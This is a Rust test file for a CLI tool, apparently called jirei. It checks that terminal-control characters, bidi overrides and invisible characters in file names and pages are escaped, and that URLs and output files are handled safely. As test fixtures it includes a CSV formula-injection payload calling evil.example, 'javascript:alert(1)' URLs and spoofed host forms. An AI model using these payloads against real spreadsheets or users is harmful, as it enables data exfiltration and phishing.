//! What comes out is safe: no name of a file and no word of a page drives a terminal, hides or breaks a line.

#![cfg(unix)]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test stops by panicking")]
#![allow(dead_code, reason = "other tests use the rest of the session")]

mod session;

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use portable_pty::CommandBuilder;
use proptest::prelude::*;
use session::Session;

/// Parts of names that drive a terminal, break a line, turn the text or are not seen, with their escape.
const NAMES: [(&str, &str); 14] = [
    ("\u{1b}[31m", "\\u{1b}[31m"),
    ("\u{9b}31m", "\\u{9b}31m"),
    ("\u{7f}", "\\u{7f}"),
    ("\n", "\\u{a}"),
    ("\t", "\\u{9}"),
    ("\u{c}", "\\u{c}"),
    ("\u{85}", "\\u{85}"),
    ("\u{2028}", "\\u{2028}"),
    ("\u{202e}", "\\u{202e}"),
    ("\u{200b}", "\\u{200b}"),
    ("\u{ad}", "\\u{ad}"),
    ("\u{fe0f}", "\\u{fe0f}"),
    ("\u{3164}", "\\u{3164}"),
    ("\u{e0041}", "\\u{e0041}"),
];

fn page(name: &str) -> String {
    format!(
        "事例紹介\n\n{name}\n\nシステムの概要\nシステム名\t{name}\n運用開始状況\t導入済み：2012年\n稼働状況\tサービス運用中\n"
    )
}

/// A folder with a case in a file of each name.
fn folder() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (nth, (odd, _)) in NAMES.iter().enumerate() {
        fs::write(folder.path().join(format!("a{odd}b.txt")), page(&format!("見本{nth}ネット"))).unwrap();
    }
    folder
}

fn command(arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_jirei"));
    command.args(arguments).env("LANG", "ja_JP.UTF-8").env("LC_ALL", "");
    command.env("JIREI_CONFIG", "/dev/null").env("JIREI_STATE", "/dev/null");
    command
}

fn run(arguments: &[&str], path: &Path) -> Output {
    command(arguments).arg(path).output().unwrap()
}

fn printed(arguments: &[&str], path: &Path) -> String {
    String::from_utf8(run(arguments, path).stdout).unwrap()
}

/// What a command writes to a terminal, without its own colours.
fn on_terminal(arguments: &[&str], path: &Path) -> String {
    let mut command = CommandBuilder::new(env!("CARGO_BIN_EXE_jirei"));
    command.args(arguments);
    command.arg(path);
    let mut session = Session::run(command, &[("TERM", "dumb")]);
    session.ended();
    let bytes = session.output.lock().unwrap();
    String::from_utf8(bytes.clone()).unwrap().replace("\r\n", "\n").replace("\r\n", "\n")
}

#[test]
fn bytes_are_not_shown_on_a_terminal() {
    for format in ["xlsx", "parquet"] {
        let shown = on_terminal(&["export", "--lang", "ja", "--format", format], folder().path());
        assert_eq!(shown.trim_end(), "jirei: -o FILE で書く先を指定してください");
    }
}

/// The characters that no output has between its lines and cells.
fn hidden(text: &str) -> Vec<char> {
    let own = |c: &char| !matches!(c, '\n' | '\t');
    text.chars()
        .filter(own)
        .filter(|c| c.is_control() || NAMES.iter().any(|(odd, _)| odd.contains(*c) && !c.is_ascii()))
        .collect()
}

#[test]
fn names_reach_a_terminal_only_escaped_in_every_format() {
    let folder = folder();
    for arguments in [
        &["list", "--format", "tsv"][..],
        &["list", "--format", "csv"],
        &["list", "--format", "json"],
        &["list", "-q", "見本"],
        &["search", "見本"],
        &["search", "見本", "--format", "ndjson"],
        &["check"],
        &["check", "--format", "json"],
        &["export"],
        &["export", "--format", "ndjson"],
    ] {
        let text = on_terminal(arguments, folder.path());
        assert_eq!(hidden(&text), [], "{arguments:?}");
        let is_json = arguments.iter().any(|word| word.contains("json") || *word == "export");
        for (odd, escape) in NAMES.iter().filter(|_| arguments[0] != "list" || arguments[1] == "--format") {
            // Of the others JSON has its own.
            let units = odd.encode_utf16().map(|unit| match char::from_u32(unit.into()) {
                Some(c) if c.is_ascii() => c.to_string(),
                _ => format!("\\u{unit:04x}"),
            });
            let json: String = units.collect();
            let is_own = is_json && odd.starts_with(|c: char| c.is_ascii());
            let escape = if is_json { &json } else { *escape };
            assert!(is_own || text.contains(escape), "{arguments:?}: {escape}: {text}");
        }
        if is_json && !arguments.contains(&"ndjson") {
            // The summary on stderr is behind it.
            let value = |text: &str| {
                let mut values = serde_json::Deserializer::from_str(text).into_iter::<serde_json::Value>();
                values.next().unwrap().unwrap()
            };
            assert_eq!(value(&text), value(&printed(arguments, folder.path())), "the same JSON");
        }
    }
}

#[test]
fn a_name_is_escaped_in_every_message() {
    let folder = folder();
    for (odd, escape) in NAMES {
        let (there, absent) = (folder.path().join(format!("a{odd}b.txt")), folder.path().join(odd));
        for arguments in [
            &["show", "見本"][..],
            &["show", "見本", "--format", "markdown"],
            &["show", "見本", "--format", "json"],
        ] {
            assert_eq!(hidden(&on_terminal(arguments, &there)), [], "{arguments:?}: {escape}");
        }
        let failed = run(&["list"], &absent);
        let message = String::from_utf8(failed.stderr).unwrap();
        assert!(hidden(&message).is_empty() && message.contains(escape), "{message:?}");
        let missing = command(&["config", "--config"]).arg(&absent).output().unwrap();
        let message = String::from_utf8(missing.stderr).unwrap();
        assert!(hidden(&message).is_empty() && message.contains(escape), "{message:?}");
    }
}

#[test]
fn the_browser_shows_what_is_hidden_in_a_name() {
    let folder = folder();
    for (odd, escape) in NAMES {
        let path = folder.path().join(format!("a{odd}b.txt"));
        let mut session = Session::start_on(&[&path], &[]);
        let wanted = format!("a{escape}b.txt:");
        session.wait_for(&wanted, |screen| screen.contents().contains(&wanted));
        session.send("q");
        assert_eq!(session.ended(), 0);
        let written = session.output.lock().unwrap().clone();
        assert!(!String::from_utf8(written).unwrap().contains(&format!("a{odd}b")));
    }
}

#[test]
fn a_program_gets_names_as_they_are_and_a_line_each() {
    let folder = folder();
    let top = folder.path().to_str().unwrap();
    let list: serde_json::Value =
        serde_json::from_str(&printed(&["list", "--format", "json"], folder.path())).unwrap();
    let tsv = printed(&["list", "--format", "tsv"], folder.path());
    let lines: Vec<&str> = tsv.split('\n').collect();
    assert_eq!(lines.len(), NAMES.len() + 2, "{tsv}");
    for (odd, escape) in NAMES {
        let path = format!("{top}/a{odd}b.txt");
        assert!(list.as_array().unwrap().iter().any(|case| case["path"] == path.as_str()), "{escape}");
        let breaks = ["\n", "\t", "\u{c}", "\u{85}", "\u{2028}"].contains(&odd);
        let cell = if breaks { format!("{top}/a{escape}b.txt") } else { path };
        assert!(lines.iter().any(|line| line.split('\t').nth(5) == Some(cell.as_str())), "{escape}: {tsv}");
    }
    for format in [&["export", "--format", "ndjson"][..], &["search", "見本", "--format", "ndjson"]] {
        let text = printed(format, folder.path());
        let breaks = |c: char| c.is_control() && c != '\n' || ['\u{2028}', '\u{202e}'].contains(&c);
        assert!(!text.contains(breaks), "{text}");
    }
}

/// Characters that drive a terminal, end a line or turn the text.
const ODD: [char; 11] = [
    '\u{b}', '\u{c}', '\u{1b}', '\u{1c}', '\u{7f}', '\u{85}', '\u{9b}', '\u{202e}', '\u{2028}', '\u{2029}',
    '\u{200e}',
];

/// A page whose every title, label and value holds this, in one format after another.
fn pages_with(odd: char) -> [(&'static str, String); 6] {
    let rows = [
        ("システム名".to_owned(), format!("見{odd}本ネット")),
        (format!("未知{odd}の項目"), format!("x{odd}y")),
        ("運用開始状況".to_owned(), "導入済み：2012年".to_owned()),
        ("稼働状況".to_owned(), format!("サービス{odd}運用中")),
    ];
    let lines = |row: &dyn Fn(&(String, String)) -> String| rows.iter().map(row).collect::<String>();
    let object: serde_json::Map<String, serde_json::Value> =
        rows.iter().map(|(label, value)| (label.clone(), value.clone().into())).collect();
    let json =
        serde_json::json!({"システムの概要": object, format!("未知の{odd}題"): {"項": format!("あ{odd}い")}});
    let entity = format!("&#{};", u32::from(odd));
    let html =
        |(label, value): &(String, String)| format!("<tr><th>{label}<td>{value}").replace(odd, &entity);
    let rule = "|---|---|---|\n";
    [
        ("csv", lines(&|(label, value)| format!("\"{label}\",\"{value}\"\n"))),
        (
            "txt",
            format!("事例紹介\n\nシステムの概要\n{}", lines(&|(label, value)| format!("{label}\t{value}\n"))),
        ),
        ("md", format!("|項目|値|備考|\n{rule}{}", lines(&|(label, value)| format!("|{label}|{value}||\n")))),
        ("wiki.txt", format!("{{|\n{}|}}\n", lines(&|(label, value)| format!("|-\n|{label}||{value}\n")))),
        ("html", format!("<html><body><h4>システムの概要</h4><table>{}</table></body></html>", lines(&html))),
        ("json", json.to_string()),
    ]
}

#[test]
fn no_word_of_a_page_drives_a_terminal_or_breaks_a_line() {
    let folder = tempfile::tempdir().unwrap();
    for c in ODD {
        for (end, text) in pages_with(c) {
            let path = folder.path().join(format!("page.{end}"));
            fs::write(&path, text).unwrap();
            for arguments in [
                &["list"][..],
                &["list", "--format", "tsv"],
                &["show", "ネット"],
                &["show", "ネット", "--format", "markdown"],
                &["search", "ネット"],
                &["check"],
                &["export", "--format", "ndjson"],
            ] {
                let output = run(arguments, &path);
                let text = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
                assert!(
                    text.contains("ネット") && !text.contains(c),
                    "{end} {arguments:?} {}: {text}",
                    c.escape_unicode()
                );
            }
            // A form feed is white space; of the others a person is to know.
            let report = printed(&["check", "--format", "json"], &path);
            let is_json_or_html = ["json", "html"].contains(&end);
            assert!(
                is_json_or_html || c == '\u{c}' || report.contains("control-character"),
                "{end} {}: {report}",
                c.escape_unicode()
            );
        }
    }
}

fn page_with_address(line: &str) -> String {
    page("見本ネット").replace("\n\nシステムの概要", &format!("\n{line}\n\nシステムの概要"))
}

#[test]
fn an_address_is_whole_or_null_and_reported() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("page.txt");
    let read = |line: &str| -> serde_json::Value {
        fs::write(&path, page_with_address(line)).unwrap();
        let mut document: serde_json::Value = serde_json::from_str(&printed(&["export"], &path)).unwrap();
        document["cases"][0].take()
    };
    for url in
        ["http://日本語.jp/もがみ.html", "HTTP://日本語.jp/（見本）?あ=い", "https://xn--wgv71a119e.jp/"]
    {
        assert_eq!(read(&format!("<{url}>"))["url"], url);
    }
    for wrong in [
        "http://",
        "<http://>",
        "<http:// 日本語.jp/>",
        "http://a.jp:99999/",
        "URL\thttps:////",
        "<http://a b.jp/",
        "<http://a.jp/ (x)",
        "http://a b.jp/",
        "\"http://a b.jp/x",
        "<www.a b.jp>",
        "<javascript:alert(1)>",
        "javascript:alert(1)",
        "<ftp://a.jp/>",
        "URL\tftp://a.jp/",
        "URL\tmailto:a@b.jp",
    ] {
        let case = read(wrong);
        assert!(case["url"].is_null(), "{wrong}");
        let words = wrong.trim_start_matches("URL\t");
        let kept = case["sections"][0]["fields"][0]["text"].as_str().unwrap();
        assert_eq!(kept.trim_matches(['<', '>']), words.trim_matches(['<', '>']), "no word is lost");
        let lines = serde_json::json!([4, 4]);
        let report = |found: &serde_json::Value| found["code"] == "unknown-label" && found["lines"] == lines;
        assert!(case["diagnostics"].as_array().unwrap().iter().any(report), "{case}");
    }
}

#[test]
fn what_is_taken_out_of_an_address_is_reported() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("page.txt");
    for odd in ['\u{202e}', '\u{200b}', '\u{1b}'] {
        for line in [
            format!("<http://a{odd}b.jp/>"),
            format!("http://a{odd}b.jp/"),
            format!("URL\thttp://a{odd}b.jp/"),
        ] {
            fs::write(&path, page_with_address(&line)).unwrap();
            let document: serde_json::Value = serde_json::from_str(&printed(&["export"], &path)).unwrap();
            let case = &document["cases"][0];
            let reports = case["diagnostics"].as_array().unwrap().iter();
            let reports =
                reports.filter(|found| found["code"] == "control-character" && found["lines"][0] == 4);
            assert_eq!((&case["url"], reports.count()), (&"http://ab.jp/".into(), 1), "{line:?} {case}");
        }
    }
}

#[test]
fn an_address_that_is_none_on_the_only_line_of_a_page_is_kept_alone() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("page.txt");
    let lines = include_str!("../seeds/tonet.txt").lines().map(|line| line.trim_matches(['#', '-', ' ']));
    let words =
        lines.filter(|line| !line.is_empty()).map(|line| if line.contains("://") { "http://" } else { line });
    fs::write(&path, words.collect::<Vec<_>>().join(" ").replace('\t', " ")).unwrap();
    let document: serde_json::Value = serde_json::from_str(&printed(&["export"], &path)).unwrap();
    let case = &document["cases"][0];
    let sections = case["sections"].as_array().unwrap();
    let kept = sections.iter().flat_map(|section| section["fields"].as_array().unwrap());
    assert!(case["url"].is_null() && kept.filter(|field| field["text"] == "http://").count() == 1, "{case}");
}

#[test]
fn a_host_that_is_not_plain_is_shown_in_ascii_beside_and_read_back_without() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("page.txt");
    for (url, host) in [
        ("http://\u{430}pple.jp/x", "xn--pple-43d.jp"),
        ("http://good@evil/", "evil"),
        ("http://good.jp:80@evil.jp", "evil.jp"),
        ("http://0x7f.1/", "127.0.0.1"),
    ] {
        fs::write(&path, page_with_address(url)).unwrap();
        for (format, shown) in
            [("text", format!("{url} ({host})\n")), ("markdown", format!("<{url}> ({host})\n"))]
        {
            let text = printed(&["show", "見本", "--format", format], &path);
            assert!(text.contains(&shown), "{text}");
            let copy = folder.path().join("copy.txt");
            fs::write(&copy, text).unwrap();
            let list: serde_json::Value =
                serde_json::from_str(&printed(&["list", "--format", "json"], &copy)).unwrap();
            assert_eq!(list[0]["url"], url);
        }
    }
}

#[test]
fn letters_without_a_shape_reach_programs_and_no_terminal() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("page.txt");
    let odd =
        ["\u{3164}", "\u{115f}", "\u{1160}", "\u{ffa0}", "\u{180e}", "\u{e0041}", "\u{e0100}", "\u{200d}"];
    let name = odd.map(|odd| format!("見{odd}本a{odd}")).concat() + "ネット";
    fs::write(&path, page(&name)).unwrap();
    let is_left = |text: &str| odd.iter().any(|odd| text.replace("見\u{e0100}", "").contains(odd));
    for arguments in
        [&["list"][..], &["list", "--format", "tsv"], &["show", "見本"], &["table"], &["search", "見本"]]
    {
        let text = on_terminal(arguments, &path);
        assert!(text.contains("ネット") && !is_left(&text), "{arguments:?} {text:?}");
    }
    let tsv = printed(&["list", "--format", "tsv"], &path);
    assert!(tsv.contains(&name), "{tsv:?}");
    let mut session = Session::start_on(&[&path], &[]);
    session.wait_for("the page", |screen| screen.contents().contains("ネット"));
    session.send("q");
    assert_eq!(session.ended(), 0);
    let written = String::from_utf8(session.output.lock().unwrap().clone()).unwrap();
    assert!(!is_left(&written), "{written:?}");
}

#[test]
fn formulas_run_in_no_spreadsheet_and_programs_get_them_verbatim() {
    let folder = tempfile::tempdir().unwrap();
    for (name, words) in [
        ("a", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
        ("b", "\"見本ネット"),
        ("c", "＠見本ネット"),
    ] {
        let page = page("見本")
            .replace("見本\n\n", &format!("{words}\n\n"))
            .replace("\t見本", &format!("\t{words}"));
        fs::write(folder.path().join(name), page).unwrap();
    }
    let output = run(&["list", "--format", "csv"], folder.path());
    let (csv, note) = (String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap());
    let csv = csv.strip_prefix('\u{feff}').unwrap();
    assert!(csv.lines().count() == 4 && csv.matches("\r\n").count() == 4, "{csv}");
    let records: Vec<csv::StringRecord> =
        csv::Reader::from_reader(csv.as_bytes()).records().map(Result::unwrap).collect();
    let names: Vec<&str> = records.iter().map(|record| &record[1]).collect();
    let tsv = printed(&["list", "--format", "tsv"], folder.path());
    let verbatim: Vec<&str> = tsv.lines().skip(1).filter_map(|line| line.split('\t').nth(1)).collect();
    assert!(verbatim[0].starts_with("=HYPERLINK(") && verbatim[2].starts_with('＠'), "{tsv}");
    assert_eq!(names, [format!("'{}", verbatim[0]).as_str(), verbatim[1], &format!("'{}", verbatim[2])]);
    let places = ["a:1", "c:1"].map(|place| format!("{}/{place}", folder.path().display()));
    assert!(places.iter().all(|place| note.contains(place)) && note.contains('2'), "{note}");
    // The head of a table and its own words are no formulas.
    for own in [&["fields", "--format", "csv"][..], &["glossary", "--format", "csv"]] {
        let output = command(own).output().unwrap();
        assert!(output.status.success() && output.stderr.is_empty(), "{own:?}");
    }
}

#[test]
fn a_copy_that_does_not_fit_leaves_nothing_and_one_that_does_is_for_the_user_alone() {
    use std::os::unix::fs::PermissionsExt;
    for (limit, done) in [("0", "書けませんでした"), ("1", "書けませんでした"), ("unlimited", "書きました:")]
    {
        let [here, temporary] = [tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap()];
        let mut command = CommandBuilder::new("sh");
        // A limit of blocks is a disk that is full in the middle of a file.
        let run = format!("cd \"$1\" && trap '' XFSZ && umask 0 && ulimit -f {limit} && exec \"$0\"");
        command.args(["-c", &run, env!("CARGO_BIN_EXE_jirei")]);
        command.arg(here.path());
        let mut session = Session::run(command, &[("TMPDIR", temporary.path().to_str().unwrap())]);
        session.wait_for("the first frame", session::shows("q 終了"));
        session.send("Y");
        session.wait_for("the copies", session::shows("Markdown"));
        // The case as JSON, above the list.
        session.send("Gkkkkw");
        session.wait_for(done, session::shows(done));
        session.send("q");
        session.ended();
        let left = |folder: &tempfile::TempDir| {
            fs::read_dir(folder.path()).unwrap().map(Result::unwrap).collect::<Vec<_>>()
        };
        assert_eq!(left(&temporary).len(), 0, "{limit}");
        let written = left(&here);
        assert_eq!(written.len(), usize::from(limit == "unlimited"), "{written:?}");
        for file in written {
            assert_eq!(file.metadata().unwrap().permissions().mode() & 0o777, 0o600, "{file:?}");
        }
    }
}

#[test]
fn an_output_file_is_replaced_by_a_whole_one_and_a_link_stays_a_link() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let folder = tempfile::tempdir().unwrap();
    let [file, link, dangling] = ["out.json", "link", "dangling"].map(|name| folder.path().join(name));
    symlink("out.json", &link).unwrap();
    symlink("nothing", &dangling).unwrap();
    let whole = printed(&["export"], Path::new("seeds"));
    let write = |path: &Path| command(&["export", "seeds", "-o"]).arg(path).output().unwrap();
    for path in [&file, &link] {
        fs::write(&file, "before").unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o640)).unwrap();
        let output = write(path);
        assert!(
            output.status.success() && output.stdout.is_empty() && output.stderr.is_empty(),
            "{output:?}"
        );
        assert_eq!(fs::read_to_string(&file).unwrap(), whole);
        assert_eq!(
            fs::metadata(&file).unwrap().permissions().mode() & 0o777,
            0o640,
            "who could read it still can"
        );
    }
    assert!(fs::symlink_metadata(&link).unwrap().is_symlink());
    for refused in [&dangling, folder.path(), &folder.path().join("no/such/file")] {
        let output = write(refused);
        let message = String::from_utf8(output.stderr).unwrap();
        assert!(output.status.code() == Some(2) && message.contains(refused.to_str().unwrap()), "{message}");
    }
    assert_eq!(fs::read_dir(folder.path()).unwrap().count(), 3, "nothing is left beside them");
}

#[test]
fn an_output_file_stays_as_it_was_if_there_is_no_room_or_nothing_to_write() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("out.json");
    fs::write(&file, "before").unwrap();
    let jirei = env!("CARGO_BIN_EXE_jirei");
    // A limit of blocks is a disk that is full in the middle of a file.
    let run = format!("trap '' XFSZ; ulimit -f 8; exec '{jirei}' export seeds -o \"$1\"");
    let full = Command::new("sh").args(["-c", &run, "sh"]).arg(&file).output().unwrap();
    assert_eq!(full.status.code(), Some(2), "{}", String::from_utf8_lossy(&full.stderr));
    let unread = command(&["export", "no-such-page", "-o"]).arg(&file).output().unwrap();
    assert_eq!(unread.status.code(), Some(2));
    assert_eq!(fs::read_to_string(&file).unwrap(), "before");
    assert_eq!(fs::read_dir(folder.path()).unwrap().count(), 1);
    let nothing = command(&["list", "-q", "ない言葉", "--format", "json", "-o"]).arg(&file).output().unwrap();
    assert_eq!((nothing.status.code(), fs::read_to_string(&file).unwrap().as_str()), (Some(1), "[]\n"));
}

#[test]
fn a_pipe_is_written_into_and_one_that_nothing_reads_is_not_waited_for() {
    use std::os::unix::fs::FileTypeExt;
    let folder = tempfile::tempdir().unwrap();
    let pipe = folder.path().join("pipe");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let unread = command(&["export", "seeds", "-o"]).arg(&pipe).output().unwrap();
    assert_eq!(unread.status.code(), Some(2));
    assert!(String::from_utf8(unread.stderr).unwrap().contains(pipe.to_str().unwrap()));
    let reader = std::thread::spawn({
        let pipe = pipe.clone();
        move || fs::read_to_string(pipe).unwrap()
    });
    // The reader may not be there yet.
    let deadline = std::time::Instant::now() + session::GUARD;
    while !command(&["export", "seeds", "-o"]).arg(&pipe).output().unwrap().status.success() {
        assert!(std::time::Instant::now() < deadline, "the reader never came");
    }
    // It is longer than a pipe holds.
    assert_eq!(reader.join().unwrap(), printed(&["export"], Path::new("seeds")));
    assert!(fs::symlink_metadata(&pipe).unwrap().file_type().is_fifo());
}

#[test]
fn a_device_is_written_into_as_what_it_is() {
    let folder = folder();
    let pair = portable_pty::native_pty_system().openpty(portable_pty::PtySize::default()).unwrap();
    let device = pair.master.tty_name().unwrap();
    let mut output = pair.master.try_clone_reader().unwrap();
    let written =
        command(&["list", "--format", "tsv", "-o"]).arg(&device).arg(folder.path()).output().unwrap();
    assert!(written.status.success() && written.stdout.is_empty(), "{written:?}");
    drop(pair.slave);
    let mut text = Vec::new();
    // Where the terminal ends, some systems give an error.
    let _ = std::io::Read::read_to_end(&mut output, &mut text);
    let text = String::from_utf8(text).unwrap().replace("\r\n", "\n");
    assert!(text.contains("a\\u{200b}b.txt") && hidden(&text).is_empty(), "it is a terminal: {text}");
    assert!(device.exists());
}

proptest! {
    #[test]
    fn whatever_is_in_a_page_its_data_is_lines_of_harmless_words(
        inserts in prop::collection::vec((any::<prop::sample::Index>(), prop::sample::select(ODD.to_vec())), 1..20),
        kind in 0..6_usize,
    ) {
        let (end, text) = pages_with(' ')[kind].clone();
        let mut letters: Vec<char> = text.chars().collect();
        for (place, odd) in inserts {
            letters.insert(place.index(letters.len() + 1), odd);
        }
        let text: String = letters.into_iter().collect();
        for case in jirei::source::read_pages(&format!("page.{end}"), text.clone().into_bytes()).unwrap_or_default() {
            let fields = || case.sections.iter().flat_map(|section| &section.fields);
            let words = fields().flat_map(|field| [field.label.as_ref(), field.text.as_str()]);
            let titles = case.sections.iter().map(|section| section.title.as_str());
            let names = [Some(&case.name), case.nickname.as_ref(), case.url.as_ref()].into_iter().flatten();
            for words in words.chain(titles).chain(names.map(String::as_str)) {
                prop_assert!(!words.contains(|c: char| c.is_control() || ODD.contains(&c)), "{words:?} in {text:?}");
            }
        }
    }
}

#[cfg(target_os = "linux")]
#[test]
fn the_web_browser_gets_the_whole_address() {
    use std::os::unix::fs::PermissionsExt;
    let folder = tempfile::tempdir().unwrap();
    let [opener, page, got] = ["xdg-open", "page.txt", "got"].map(|name| folder.path().join(name));
    let script = format!("#!/bin/sh\nprintf %s \"$1\" > '{0}.new' && mv '{0}.new' '{0}'\n", got.display());
    fs::write(&opener, script).unwrap();
    fs::set_permissions(&opener, fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(&page, page_with_address("<HTTP://日本語.jp/もがみ.html?あ=い#う>")).unwrap();
    let path = format!("{}:/usr/bin:/bin", folder.path().display());
    let output = command(&["open", "見本", "--site"]).arg(&page).env("PATH", path).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let deadline = std::time::Instant::now() + session::GUARD;
    while !got.exists() {
        assert!(std::time::Instant::now() < deadline, "nothing was opened");
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let whole = "http://xn--wgv71a119e.jp/%E3%82%82%E3%81%8C%E3%81%BF.html?%E3%81%82=%E3%81%84#%E3%81%86";
    assert_eq!(fs::read_to_string(&got).unwrap(), whole);
}

#[cfg(unix)]
#[test]
fn what_is_interrupted_leaves_nothing_beside_the_file() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("cases.json");
    fs::write(&file, "mine").unwrap();
    let mut run = command(&["export", "-", "-o"])
        .arg(&file)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // It reads what never ends, whenever it is killed.
    let written = std::io::Write::write_all(run.stdin.as_mut().unwrap(), &[b'a'; 10_000]);
    written.unwrap();
    run.kill().unwrap();
    run.wait().unwrap();
    let left: Vec<String> = fs::read_dir(folder.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, ["cases.json"]);
    assert_eq!(fs::read_to_string(&file).unwrap(), "mine");
}

#[cfg(unix)]
#[test]
fn a_named_pipe_whose_reader_leaves_is_a_failure() {
    let folder = tempfile::tempdir().unwrap();
    let pipe = folder.path().join("pipe");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let run = command(&["export", "seeds", "-o"]);
    let reader = std::thread::spawn({
        let pipe = pipe.clone();
        move || {
            let mut begin = [0; 10];
            std::io::Read::read_exact(&mut fs::File::open(pipe).unwrap(), &mut begin).unwrap();
        }
    });
    let mut run = run;
    run.arg(&pipe);
    let deadline = std::time::Instant::now() + session::GUARD;
    let ended = loop {
        let ended = run.output().unwrap();
        // Without a reader yet it fails too.
        if reader.is_finished() {
            break ended;
        }
        assert!(std::time::Instant::now() < deadline, "the reader never came");
    };
    reader.join().unwrap();
    assert_eq!(ended.status.code(), Some(2));
}
